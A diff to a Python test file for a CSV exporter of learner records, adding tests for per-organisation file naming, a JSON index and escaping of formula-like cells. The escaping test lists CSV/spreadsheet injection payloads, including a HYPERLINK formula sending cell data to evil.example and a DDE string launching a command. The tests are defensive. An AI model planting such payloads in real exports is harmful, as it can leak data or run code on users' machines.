@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import json
 from datetime import date
 from pathlib import Path
 from typing import Any
@@ -42,7 +43,56 @@ def test_a_file_has_the_columns_of_the_archived_script(tmp_path: Path) -> None:
         head, *lines = csv.reader(file)
     assert (name, tuple(head)) == ("campus.example_OrgA_2026-03-01_claim-7.csv", COLUMNS)
     assert [line[0] for line in lines] == ["1", "2"]
-    assert lines[0][3:] == ['Ana "Canary",\nGómez', "2026-02-01T12:00:00.000000Z"]
+    assert lines[0][3:] == ['Ana "Canary",\nGómez', "2026-02-01T12:00:00.000000Z", "OrgA"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example"&B2,"click")',
+        "+1",
+        "-2+3",
+        "@SUM(A1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\N{FULLWIDTH EQUALS SIGN}1+1",
+    ],
+)
+def test_no_cell_is_a_formula(tmp_path: Path, name: str) -> None:
+    """Names are the learner's own text, and so are the names of organisations their authors'."""
+    given = row(1, name, original_name=name, original_username=name, original_email=name)
+    (file,) = Destination(tmp_path, "x").write(7, DAY, rows(given, row(2, name, original_name="Ana = Gómez")))
+
+    with (tmp_path / file).open(encoding="utf-8", newline="") as opened:
+        _, first, second = csv.reader(opened)
+    assert [first[1], first[2], first[3], first[5], second[5]] == [f"'{name}"] * 5
+    assert (first[0], second[3]) == ("1", "Ana = Gómez")
+
+
+def test_organisations_are_named_in_any_script_in_files_and_in_the_index(tmp_path: Path) -> None:
+    """Two Chinese universities are told apart without a code; an index says which file is whose."""
+    orgs = [
+        "清华大学",
+        "北京大学",
+        "दिल्ली विश्वविद्यालय",
+        "جامعة القاهرة",
+        "Ｏｒｇ\N{LATIN SMALL LIGATURE FI}",
+        "Zürich U.",
+    ]
+
+    files = Destination(tmp_path, "campus.example").write(7, DAY, rows(row(1, *orgs)))
+
+    assert [name.split("_")[1] for name in files] == [
+        *("Zürich-U", "جامعة-القاهرة", "दिल्ली-विश्वविद्यालय", "北京大学", "清华大学", "Orgfi"),
+    ]
+    (path,) = tmp_path.glob("*.json")
+    assert path.name == "campus.example_2026-03-01_claim-7.index.json"
+    index = json.loads(path.read_text(encoding="utf-8"))["organisations"]
+    assert {each["file"]: each["learners"] for each in index} == files
+    for each in index:
+        with (tmp_path / each["file"]).open(encoding="utf-8", newline="") as opened:
+            assert [line["organisation"] for line in csv.DictReader(opened)] == [each["organisation"]]
 
 
 def test_names_that_look_alike_are_told_apart(tmp_path: Path) -> None:
@@ -52,8 +102,8 @@ def test_names_that_look_alike_are_told_apart(tmp_path: Path) -> None:
     files = Destination(tmp_path, "campus.example").write(7, DAY, rows(row(1, *orgs)))
 
     assert len({name.casefold() for name in files}) == len(orgs)
-    assert sorted(files) == sorted(path.name for path in tmp_path.iterdir())
-    assert not [name for name in files if name.startswith(".") or "/" in name or len(name) > 200]
+    assert sorted(files) == sorted(path.name for path in tmp_path.glob("*.csv"))
+    assert not [name for name in files if name.startswith(".") or "/" in name or len(name.encode()) > 230]
 
 
 def test_writing_a_claim_again_gives_the_same_files(tmp_path: Path) -> None:
